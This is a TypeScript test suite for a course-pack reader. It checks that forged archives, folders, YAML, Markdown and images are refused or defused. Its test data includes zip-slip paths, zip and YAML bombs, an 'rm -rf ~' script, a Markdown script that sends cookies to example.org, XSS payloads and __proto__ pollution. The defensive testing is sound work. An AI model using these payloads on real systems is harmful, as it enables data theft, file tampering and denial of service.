/** Packs that lie, break, flood or attack, one a kind: each is refused for a reason that can be read, or has lost its sting. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { firstCourse } from '../../cli/course-template.ts';
import type { Course } from '../../contracts/course.ts';
import { type ReadPack, readPackAt, readPackZip, textsOf } from '../../host/packs/read-pack.ts';
import { sealPack } from '../../host/packs/seal-pack.ts';
import { judgePack, problemText, readCourseFacts } from '../../labs/course/index.ts';
import { forgeZip, type Part, pngHead, words } from './forge.ts';

const good: Readonly<Record<string, string>> = firstCourse('wires', '.schemas');
const honest = (changes: Record<string, string | Uint8Array | null> = {}): Part[] =>
  Object.entries({ ...good, ...changes }).flatMap(([path, content]) => (content === null ? [] : [{ path, content, isDeflated: true }]));
const plus = (...parts: Part[]): Buffer => forgeZip([...honest(), ...parts]);
const zipOf = (changes: Record<string, string | Uint8Array | null>): Buffer => forgeZip(honest(changes));

function judged(read: ReadPack, version = '0.1.0'): { course: Course | null; said: string } {
  if ('problems' in read) return { course: null, said: read.problems.map(problemText).join('\n') };
  const { course, problems } = judgePack(textsOf(read.files), version);
  return { course, said: problems.map(problemText).join('\n') };
}
const opened = (bytes: Uint8Array) => judged(readPackZip('pack.zip', bytes));
/** A sealed pack, then changed. */
function sealed(change: (files: Map<string, Uint8Array>) => void = () => undefined, manifest: (text: string) => string = (text) => text): Buffer {
  const facts = readCourseFacts(good['course.yaml']);
  if ('problems' in facts) throw new Error('the good course is not good');
  const read = readPackZip('x', sealPack(new Map(Object.entries(good).map(([path, text]) => [path, Buffer.from(text)])), facts.facts));
  if ('problems' in read) throw new Error('the good pack is not good');
  const files = new Map(read.files);
  change(files);
  files.set('manifest.json', Buffer.from(manifest(String(Buffer.from(files.get('manifest.json')!)))));
  return forgeZip([...files].map(([path, content]) => ({ path, content })));
}

const lesson = 'basics/a-switch/lesson.md';
const yaml = 'basics/a-switch/lesson.yaml';
const appended = (path: string, more: string): Buffer => zipOf({ [path]: `${good[path]}${more}` });
const replaced = (path: string, from: string, to: string): Buffer => {
  if (!good[path]!.includes(from)) throw new Error(`${path} has no ${from}`);
  return zipOf({ [path]: good[path]!.replace(from, to) });
};
const bombLines = ['a: &a [x, x, x, x, x, x, x, x, x]', ...[...'bcdefgh'].map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(', ')}]`)].join('\n');
const prefixed = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from('PK is how it begins\n'), bytes]);

describe('an honest pack', () => {
  it.each([
    ['as made by course pack', sealed()],
    ['as zipped by hand', forgeZip(honest())],
    ['as zipped with its folder', forgeZip(honest().map((part) => ({ ...part, path: `wires/${part.path}` })))],
    ['with what file managers add', plus({ path: '__MACOSX/._course.yaml', content: '\0\0' }, { path: '.DS_Store', content: 'x' }, { path: 'basics/Thumbs.db', content: 'x' })],
    ['with sizes after each file', forgeZip(honest().map((part) => ({ ...part, descriptorBytes: Buffer.from(part.content ?? '').length })))],
    ['with folders listed', plus({ path: 'basics/', unixMode: 0o040755 })],
    ['with a comment', forgeZip(honest(), { after: Buffer.from('from a server') })],
    ['with a picture', zipOf({ 'basics/a-switch/wire.png': pngHead(640, 480) })],
    ['with a signature to come', sealed((files) => files.set('manifest.sig', Buffer.alloc(64)))],
  ] as const)('is taken %s', (_, bytes) => {
    const { course, said } = opened(bytes);
    expect(said).toBe('');
    expect(course?.units[0]?.lessons.map(({ id }) => id)).toEqual(['a-switch', 'a-wire']);
  });
});

describe('a hostile archive is refused:', () => {
  it.each<readonly [kind: string, bytes: Uint8Array, says: RegExp]>([
    ['no zip at all', Buffer.from('%PDF-1.7 and so on, long enough to be something'), /^pack\.zip: wanted a zip archive, .* found something else\.$/],
    ['cut short', forgeZip(honest()).subarray(0, 3000), /cut short/],
    ['a path that climbs out (zip slip)', plus({ path: '../../.bashrc.md', content: 'x' }), /^\.\.\/\.\.\/\.bashrc\.md: wanted a path inside the pack, found one that leads out of it by \.\./],
    ['a path that climbs out further in', plus({ path: 'basics/../../x.md', content: 'x' }), /leads out of it by \.\./],
    ['a path by backslashes', plus({ path: '..\\..\\x.md', content: 'x' }), /wanted forward slashes, found a backslash/],
    ['an absolute path', plus({ path: '/etc/cron.d/x.md', content: 'x' }), /found an absolute one/],
    ['a path on a drive', plus({ path: 'C:/x.md', content: 'x' }), /found an absolute one/],
    ['a symbolic link', plus({ path: 'basics/a-switch/notes.md', content: '/etc/passwd', unixMode: 0o120777 }), /^basics\/a-switch\/notes\.md: wanted a file, found a symbolic link/],
    ['a device node', plus({ path: 'basics/zero.md', unixMode: 0o020666 }), /found a device, pipe or socket/],
    ['a name that is a device elsewhere', plus({ path: 'basics/aux.md', content: 'x' }), /wanted a name that is no device anywhere, found aux\.md/],
    ['names that differ in capitals', plus({ path: 'Course.yaml', content: 'x' }), /^Course\.yaml: wanted each name once, capitals or not, found course\.yaml as well/],
    ['folders that differ in capitals', plus({ path: 'Basics/x.md', content: 'x' }), /wanted each folder in one spelling, found basics\/ as well/],
    ['one name twice', plus({ path: 'course.yaml', content: 'x' }), /^course\.yaml: wanted each name once, capitals or not, found it twice/],
    ['one name in two forms of Unicode', plus({ path: 'caf\u00e9.md', content: 'x' }, { path: 'cafe\u0301.md', content: 'x' }), /found caf\\u\{e9\}\.md/],
    ['a name that reads backwards', plus({ path: 'x\u202edm.exe.md', content: 'x' }), /found x\\u\{202e\}dm\.exe\.md/],
    ['a file and a folder of one name', plus({ path: 'basics', content: 'x' }), /(found basics|both under one name)/],
    ['folders deep', plus({ path: 'a/b/c/d/e/f.md', content: 'x' }), /at most 3 folders deep, found 5/],
    ['a long name', plus({ path: `${'a'.repeat(300)}.md`, content: 'x' }), /at most 120 characters, found 303/],
    ['an encrypted file', plus({ path: 'x.md', content: 'x', flags: 1 }), /wanted a file that can be read, found an encrypted one/],
    ['an unknown compression', plus({ path: 'x.md', content: 'x', method: 99 }), /found method 99/],
    ['zip64 at the end', forgeZip(honest(), { before: Buffer.concat([Buffer.from('PK\x06\x07'), Buffer.alloc(16)]) }), /found zip64|as long as it says/],
    ['zip64 at a file', plus({ path: 'x.md', content: 'x', extra: Buffer.concat([words(1, 16), Buffer.alloc(16)]) }), /found zip64/],
    ['zip64 numbers', forgeZip(honest(), { count: 0xffff }), /found zip64/],
    ['more files than it says', forgeZip(honest(), { count: 2 }), /wanted 2 files, as the archive says, found more/],
    ['fewer files than it says', forgeZip(honest(), { count: 30 }), /wanted 30 files, as the archive says, found 8/],
    ['a second name for programs that know Unicode', plus({ path: 'x.md', content: 'x', extra: Buffer.concat([words(0x7075, 9), Buffer.alloc(5), Buffer.from('y.sh')]) }), /found a second one: y\.sh/],
    ['another name at the file itself', plus({ path: 'x.md', localPath: '../x.md', content: 'x' }), /found a second one at the file itself: \.\.\/x\.md/],
    ['another size at the file itself', plus({ path: 'x.md', content: 'xyz', localBytes: 2 }), /wanted one size and checksum, found others at the file itself/],
    ['another size after the file', plus({ path: 'x.md', content: 'xyz', descriptorBytes: 2 }), /found others after the file/],
    ['a file inside another', plus({ path: 'x.md', content: good['course.yaml']!, isDeflated: true, sameAs: 0, localPath: 'course.yaml' }), /found (one inside another|a second one at the file itself)/],
    ['two files over the same bytes', forgeZip([{ path: 'course.yaml', content: 'a: 1' }, { path: 'course.yaml', content: 'a: 1', sameAs: 0 }]), /wanted files that each have their own bytes, found one inside another/],
    ['bytes before the first file', prefixed(forgeZip(honest())), /as long as it says/],
    ['bytes between files', plus({ path: 'x.md', content: 'x', hidden: Buffer.from('MZ payload') }), /10 bytes before it that belong to no file/],
    ['two lists of files', forgeZip(honest(), { after: forgeZip([{ path: 'x.md' }]) }), /two that could both be meant|as long as it says/],
    ['a damaged file', plus({ path: 'x.md', content: 'x', crc: 1 }), /wanted its checksum, found another/],
    ['a bomb of one file', plus({ path: 'big.txt', content: Buffer.alloc(9_000_000), isDeflated: true }), /^big\.txt: wanted at most 100 bytes unpacked for one that is packed, found 9000000 for \d+/],
    ['a bomb of many files', forgeZip([...honest(), ...Array.from({ length: 150 }, (_, index) => ({ path: `t${index}.txt`, content: Buffer.alloc(90_000), isDeflated: true }))]), /at most 10000000 bytes in all, unpacked, found/],
    ['a bomb that denies it', plus({ path: 'x.txt', content: Buffer.alloc(5_000_000), isDeflated: true, bytes: 100 }), /^x\.txt: wanted 100 bytes, as it says, found more/],
    ['less than it says', plus({ path: 'x.txt', content: 'abc', isDeflated: true, bytes: 100 }), /^x\.txt: wanted 100 bytes, as it says, found 3/],
    ['too many files', forgeZip(Array.from({ length: 1600 }, (_, index) => ({ path: `t${index}.txt` }))), /wanted at most 1500 files, found 1600/],
    ['a file that is too large', zipOf({ 'basics/a-switch/lesson.md': 'x '.repeat(20_000) }), /lesson\.md: wanted at most 32000 bytes, found 40000/],
    ['a program', plus({ path: 'run.sh', content: 'rm -rf ~' }), /^run\.sh: wanted text .* found run\.sh/],
    ['a page with a script', plus({ path: 'index.html', content: '<script>' }), /^index\.html: wanted text/],
    ['an archive inside', plus({ path: 'inner.zip', content: forgeZip(honest()) }), /^inner\.zip: wanted text/],
  ])('%s', (_, bytes, says) => {
    const { course, said } = opened(bytes);
    expect(said).toMatch(says);
    expect(course).toBeNull();
  });
});

describe('a hostile picture is refused:', () => {
  it.each<readonly [kind: string, name: string, bytes: Uint8Array, says: RegExp]>([
    ['huge in dots', 'wire.png', pngHead(100_000, 100_000), /^wire\.png: wanted 1 to 4096 dots on each side, found 100000 by 100000/],
    ['huge in bytes', 'wire.png', Buffer.concat([pngHead(10, 10), Buffer.alloc(1_000_000)]), /wanted at most 1000000 bytes/],
    ['none at all', 'wire.png', Buffer.from('<script>alert(1)</script>'), /^wire\.png: wanted a picture: .* found something else/],
    ['of another kind than its name', 'wire.jpg', pngHead(10, 10), /^wire\.jpg: wanted what its name says, jpg, found png/],
    ['SVG, which can hold scripts', 'wire.svg', Buffer.from('<svg onload="alert(1)"/>'), /^wire\.svg: .* found an SVG, which can hold scripts\. Did you mean wire\.png\?/],
  ])('%s', (_, name, bytes, says) => expect(opened(plus({ path: name, content: bytes })).said).toMatch(says));
});

describe('a hostile or broken text is refused:', () => {
  it.each<readonly [kind: string, bytes: Uint8Array, says: RegExp]>([
    ['YAML nested deep', appended('course.yaml', `x: ${'['.repeat(9000)}${']'.repeat(9000)}\n`), /course\.yaml:17: wanted values nested at most 32 deep/],
    ['YAML nested deep by dashes', appended('course.yaml', `x:\n  ${'- '.repeat(9000)}x\n`), /wanted values nested at most 32 deep/],
    ['a YAML bomb of aliases', appended('course.yaml', `${bombLines}\n`), /wanted at most 100 values by alias, found aliases of aliases/],
    ['YAML that holds itself', appended(yaml, 'x: &x [*x]\n'), /lesson\.yaml:\d+: wanted an alias of something else, found \*x inside &x/],
    ['YAML with a tag for code', appended(yaml, 'x: !!js/function "function () { return process }"\n'), /wanted plain YAML, found Unresolved tag/],
    ['YAML in two documents', appended(yaml, '---\nid: other\n'), /wanted one document, found a second one/],
    ['YAML full of faults', appended('course.yaml', '&a '.repeat(5000)), /^(course\.yaml:.*\n){1,40}course\.yaml:|more problems/],
    ['a key twice', appended('course.yaml', 'id: other\n'), /course\.yaml:17: wanted valid YAML, found Map keys must be unique/],
    ['a key that JavaScript knows', appended(yaml, '__proto__: { isAdmin: true }\n'), /__proto__: wanted one of .* found __proto__/],
    ['a reference to what every object has', replaced(lesson, 'id="p1"', 'id="constructor"'), /predictions\.constructor in lesson\.yaml/],
    ['a directive that JavaScript knows', appended(lesson, '\n::constructor{id="c1"}\n'), /lesson\.md:50: constructor: wanted a directive: run,/],
    ['a script in Markdown', appended(lesson, '\n<script>fetch("https://example.org/" + document.cookie)</script>\n'), /lesson\.md:50: wanted Markdown, found raw HTML/],
    ['a frame in Markdown', appended(lesson, '\n<iframe src="https://example.org"></iframe>\n'), /lesson\.md:50: wanted Markdown, found raw HTML/],
    ['a picture from elsewhere', appended(lesson, '\nSee ![x](https://example.org/spy.png).\n'), /lesson\.md:50: wanted a picture file beside lesson\.md, found https:\/\/example\.org\/spy\.png/],
    ['a picture by reference', appended(lesson, '\n![x][y]\n\n[y]: https://example.org/spy.png\n'), /lesson\.md:50: wanted a picture as .* found one by reference/],
    ['a picture out of the address', appended(lesson, '\n![x](data:image/svg+xml,<svg/onload=alert(1)>)\n'), /lesson\.md:50: wanted a picture file beside lesson\.md/],
    ['a text as a picture', appended(lesson, '\n![x](lesson.yaml)\n'), /lesson\.md:50: wanted a picture file beside lesson\.md, found lesson\.yaml/],
    ['a picture without words', zipOf({ [lesson]: `${good[lesson]}\n![](wire.png)\n`, 'basics/a-switch/wire.png': pngHead(10, 10) }), /lesson\.md:50: wanted what the picture shows, in words/],
    ['quotes in quotes without end', appended(lesson, `\n${'>'.repeat(3000)} x\n`), /lesson\.md:50: wanted lists and quotes at most 6 deep, found deeper ones/],
    ['lists in lists without end', appended(lesson, `\n${'- '.repeat(1500)}x\n`), /lists and quotes at most 6 deep/],
    ['footnotes in footnotes without end', appended(lesson, `\n${'[^1]: '.repeat(600)}x\n`), /lists and quotes at most 6 deep/],
    ['directives in directives without end', appended(lesson, '\n:::why\n'.repeat(800)), /wanted ::: to close one directive before the next begins/],
    ['one endless line', appended(lesson, `\n${'**a '.repeat(3000)}\n`), /wanted lines of at most 4000 characters, found 12000/],
    ['bytes that are no text', zipOf({ [lesson]: Buffer.from([0xff, 0xfe, 0x00, 0xd8]) }), /lesson\.md: wanted text in UTF-8/],
    ['a zero byte in a text', appended('course.yaml', '# \0\n'), /course\.yaml:17: wanted visible text, found \\u\{0\}/],
    ['text that reads backwards', appended(yaml, '# sudo \u202e rm\n'), /lesson\.yaml:\d+: wanted visible text, found \\u\{202e\}/],
    ['no course.yaml', zipOf({ 'course.yaml': null }), /^course\.yaml:1: wanted a file, found nothing/],
    ['a lesson without its solution', zipOf({ 'basics/a-wire/solution.yaml': null }), /a-wire\/solution\.yaml:1: wanted a file, found nothing/],
    ['a lesson that is not listed', zipOf({ 'basics/a-wires/lesson.md': good['basics/a-wire/lesson.md']! }), /a-wires\/lesson\.md: wanted a lesson that course\.yaml lists, found basics\/a-wires\. Did you mean basics\/a-wire\?/],
    ['a wrong type', replaced(yaml, 'points: 5', 'points: five'), /lesson\.yaml:14: checks\.0\.points: wanted number, found five/],
    ['a list where a word belongs', replaced('course.yaml', 'title: Two ends of a wire', 'title: [Two, ends]'), /course\.yaml:3: title: wanted string, found \["Two","ends"\]/],
    ['a misspelt key', replaced(yaml, 'goal: A bridge', 'gaol: A bridge'), /lesson\.yaml:13: checks\.0\.goal: wanted goal: string, found gaol\. Did you mean goal\?/],
    ['a misspelt kind', replaced(yaml, 'kind: addr', 'kind: adr'), /lesson\.yaml:\d+: checks\.1\.kind: wanted a check kind: .* found adr\. Did you mean addr\?/],
    ['lessons that start after each other', replaced(lesson, 'scenario:linux-host', 'after:a-wire'), /a-switch\/lesson\.md:2: start: wanted a chain of lessons that begins at a scenario, found after:a-wire, which leads back here/],
    ['an unknown lesson to start after', replaced('basics/a-wire/lesson.md', 'after:a-switch', 'after:a-swich'), /found a-swich\. Did you mean a-switch\?/],
    ['a Podwire that is still to come', replaced('course.yaml', '>=0.1.0', '>=9.0.0'), /course\.yaml: wanted a Podwire of >=9\.0\.0, found Podwire 0\.1\.0/],
    ['a range that is none', replaced('course.yaml', '>=0.1.0', '^1'), /course\.yaml:9: engine: wanted comparisons such as/],
  ])('%s', (_, bytes, says) => {
    const { course, said } = opened(bytes);
    expect(said).toMatch(says);
    expect(course).toBeNull();
    expect(said.split('\n').length).toBeLessThanOrEqual(41);
  });
});

describe('a manifest that does not fit is refused:', () => {
  it.each<readonly [kind: string, bytes: Uint8Array, says: RegExp]>([
    ['a file changed since', sealed((files) => files.set('course.yaml', Buffer.from(good['course.yaml']!.replace('Your name', 'My name')))), /^course\.yaml: wanted SHA-256 [0-9a-f]{12}\.\.\., as manifest\.json says, found [0-9a-f]{12}\.\.\.: it was changed/],
    ['a file slipped in', sealed((files) => files.set('extra.md', Buffer.from('x'))), /^extra\.md: wanted a file that manifest\.json lists/],
    ['a file taken out', sealed((files) => files.delete('basics/a-wire/solution.yaml')), /^basics\/a-wire\/solution\.yaml: wanted a file, as manifest\.json says, found nothing/],
    ['another title than the course has', sealed(undefined, (text) => text.replace('"title": "Two ends of a wire"', '"title": "How packets reach pods"')), /^manifest\.json: title: wanted Two ends of a wire, as course\.yaml says, found How packets reach pods/],
    ['a format that is still to come', sealed(undefined, (text) => text.replace('"format": 1', '"format": 2')), /^manifest\.json: format: /],
    ['no JSON', sealed(undefined, () => '{'), /^manifest\.json: wanted JSON/],
  ])('%s', (_, bytes, says) => expect(opened(bytes).said).toMatch(says));
});

it('a picture of the pack is shown as its own bytes', () => {
  const { course, said } = opened(zipOf({ [lesson]: `${good[lesson]}\n![A wire](wire.png)\n`, 'basics/a-switch/wire.png': pngHead(640, 480) }));
  expect(said).toBe('');
  const block = course?.units[0]?.lessons[0]?.screens.at(-1)?.blocks.at(-1);
  expect(block?.kind === 'prose' && block.text.html).toMatch(/<img src="data:image\/png;base64,iVBORw0K[^"]*" alt="A wire">/);
});

describe('what cannot be refused has lost its sting:', () => {
  const htmlOf = (more: string): string => {
    const { course, said } = opened(appended(lesson, `\n${more}\n`));
    expect(said).toBe('');
    return JSON.stringify(course?.units[0]?.lessons[0]?.screens);
  };
  it.each([
    ['a link that runs', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x)', /javascript|data:/i],
    ['a link to a file', '[x](file:///etc/passwd)', /file:/],
    ['HTML inside a sentence', 'a <img src=x onerror=alert(1)> b <b onclick="x()">c</b>', /onerror|onclick|<img/],
    ['entities that spell a tag', '&lt;script&gt;alert(1)&lt;/script&gt;', /<script/],
  ])('%s', (_, more, sting) => expect(htmlOf(more)).not.toMatch(sting));
});

describe('a hostile folder is refused:', () => {
  const folders: string[] = [];
  afterAll(() => folders.forEach((folder) => rmSync(folder, { recursive: true, force: true })));
  const folderWith = (change: (folder: string) => void): string => {
    const folder = mkdtempSync(join(tmpdir(), 'podwire-pack-'));
    folders.push(folder);
    for (const [path, text] of Object.entries(good)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    change(folder);
    return folder;
  };
  it.skipIf(process.platform === 'win32').each<readonly [kind: string, change: (folder: string) => void, says: RegExp]>([
    ['a link to a file outside', (folder) => symlinkSync('/etc/passwd', join(folder, 'basics/notes.md')), /^basics\/notes\.md: wanted a file, found a symbolic link/],
    ['a link to a folder outside', (folder) => symlinkSync('/', join(folder, 'root')), /^root: wanted a file, found a symbolic link/],
    ['a pipe that never ends', (folder) => execFileSync('mkfifo', [join(folder, 'basics/pipe.md')]), /^basics\/pipe\.md: wanted a file, found a device, pipe or socket/],
    ['a file that is too large', (folder) => writeFileSync(join(folder, 'big.txt'), Buffer.alloc(500_000, 65)), /^big\.txt: wanted at most 400000 bytes, found 500000/],
    ['a file of no known kind', (folder) => writeFileSync(join(folder, 'lesson.md.exe'), 'x'), /^lesson\.md\.exe: wanted text/],
  ])('%s', (_, change, says) => expect(judged(readPackAt(folderWith(change))).said).toMatch(says));

  it('is taken with an editor\'s hidden files beside it', () => expect(judged(readPackAt(folderWith((folder) => mkdirSync(join(folder, '.git'))))).said).toBe(''));
  it('is named when it is not there', () => expect(judged(readPackAt('/nowhere/at-all')).said).toBe('at-all: wanted a pack: a zip archive or a folder, found nothing.'));
});

